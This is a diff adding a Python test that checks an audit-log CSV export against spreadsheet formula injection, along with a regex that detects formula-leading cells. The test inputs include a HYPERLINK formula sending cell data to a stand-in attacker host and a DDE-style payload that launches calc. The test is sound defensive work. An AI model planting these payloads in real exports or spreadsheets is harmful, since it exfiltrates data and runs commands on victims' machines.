@@ -8,6 +8,7 @@ import csv
 import io
 import itertools
 import json
+import re
 from datetime import datetime, timedelta, timezone
 from zoneinfo import ZoneInfo
 
@@ -389,6 +390,70 @@ def test_csv_export_parses_and_matches_the_page(conn, sample):
         "email": {"old": "a@x", "new": "b@x"}}
     assert by_name[sample["db_delete"]]["source"] == ""
     assert datetime.fromisoformat(by_name[sample["alice_update"]]["occurred_at"]) == T0
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+# what a spreadsheet runs: a leading = + - @ (or a full-width one), after spaces or not,
+# or a leading control character
+RUNS_AS_FORMULA = re.compile(r"^(\s*[-=+@\uff1d\uff0b\uff0d\uff20]|[\x00-\x1f\x7f])")
+NOT_TEXT = {"id", "occurred_at", "row_count", "transaction_id"}
+
+
+def test_every_text_column_of_the_csv_is_formula_safe(conn, db_url):
+    """A formula in every field an application or a client can set, through
+    audit.log_action, the context, the role and the connection: no CSV cell runs, and
+    each is its value, exactly, behind the apostrophe."""
+    role = "@SUM(1+1)*cmd|' /C calc'!A0"
+    conn.execute(sql.SQL("create role {} nologin").format(sql.Identifier(role)))
+    conn.commit()
+    formulas = {
+        "action": FORMULA, "resource_type": "+" + FORMULA, "resource_id": "-2+3+cmd",
+        "resource_label": "\t" + FORMULA, "actor_id": "@" + FORMULA,
+        "actor_name": " " + FORMULA, "request_id": "\uff1d1+1",
+    }
+    try:
+        with psycopg.connect(db_url, application_name="=1+2") as app:
+            app.execute(sql.SQL("set role {}").format(sql.Identifier(role)))
+            set_context(app, actor_id=formulas["actor_id"], actor_name=formulas["actor_name"],
+                        actor_type="admin", source="web", request_id=formulas["request_id"],
+                        context={"note": FORMULA})
+            action_id = app.execute(
+                "select audit.log_action('export', %s, %s, %s, %s, %s::jsonb)",
+                (formulas["action"], formulas["resource_type"], formulas["resource_id"],
+                 formulas["resource_label"], json.dumps({FORMULA: FORMULA}))).fetchone()[0]
+            app.commit()
+        data = b"".join(export_csv(conn, parse_filters({}, UTC))).decode()
+        table = list(csv.DictReader(io.StringIO(data, newline="")))
+        assert set(table[0]) == set(EXPORT_COLUMNS)
+        for row in table:
+            for column, cell in row.items():
+                assert not RUNS_AS_FORMULA.match(cell), (column, cell)
+        (row,) = [r for r in table if r["id"] == str(action_id)]
+        stored = conn.execute(
+            sql.SQL("select {} from audit.action_log where id = %s").format(
+                sql.SQL(", ").join(sql.SQL("{}::text").format(sql.Identifier(c))
+                                   for c in EXPORT_COLUMNS if c not in NOT_TEXT)),
+            (action_id,)).fetchone()
+        for column, value in zip([c for c in EXPORT_COLUMNS if c not in NOT_TEXT], stored):
+            if value is None:
+                assert row[column] == "", column
+            elif RUNS_AS_FORMULA.match(value):
+                assert row[column] == "'" + value, column
+            else:
+                assert row[column] == value, column
+        for column, value in formulas.items():
+            assert row[column] == "'" + value, column
+        assert row["db_user"] == "'" + role and row["application_name"] == "'=1+2"
+        # inside JSON text: the cell starts with {, and reads back exact
+        assert json.loads(row["changes"]) == {FORMULA: FORMULA}
+        assert json.loads(row["context"])["note"] == FORMULA
+        # the JSON export keeps every value exact
+        exported = {r["id"]: r for r in json.loads(b"".join(export_json(conn, parse_filters({}, UTC))))}
+        assert {c: exported[action_id][c] for c in formulas} == formulas
+    finally:
+        conn.rollback()
+        conn.execute(sql.SQL("drop role {}").format(sql.Identifier(role)))
+        conn.commit()
 
 
 def test_csv_cells_never_run_as_spreadsheet_formulas_and_json_keeps_them(conn):
